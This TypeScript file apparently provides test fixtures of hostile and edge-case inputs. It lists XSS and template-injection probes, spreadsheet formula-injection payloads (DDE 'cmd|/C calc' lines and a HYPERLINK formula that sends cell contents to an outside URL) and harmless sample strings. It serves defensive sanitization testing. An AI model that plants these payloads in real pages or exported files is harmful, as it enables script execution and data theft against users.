/** What somebody types who means no harm, and what somebody types who does. */
export const markup: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '<script>window.pwned=1</script>',
  '"><svg onload=alert(1)>',
  "'-alert(1)-'",
  '</title><script>alert(1)</script>',
  '<iframe srcdoc="<script>parent.pwned=1</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<style>*{background:url(https://example.org)}</style>',
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant to look like one.
  '${alert(1)}',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '\u202Egnp.exe <b>bold</b>',
  ']]><!--<script>alert(1)//-->',
]

export const formulas: readonly string[] = [
  '=1+1',
  '=HYPERLINK("https://example.org?x="&A1,"x")',
  '+1+cmd|/C calc!A0',
  '-2+3+cmd|/C calc!A0',
  '@SUM(1+1)*cmd|/C calc!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  "'=1+1",
  "''",
  '=1;2',
  '-5',
]

export const plainWords: readonly string[] = [
  '',
  ' ',
  '5',
  'true',
  '2026-11-20',
  'Sat too long after dinner.',
  'zwei\nZeilen, "Komma"; Strichpunkt\r\nund noch eine',
  '🌙🦵 يمشي ببطء',
  '\uFEFFmark',
  'null',
  '__proto__',
]
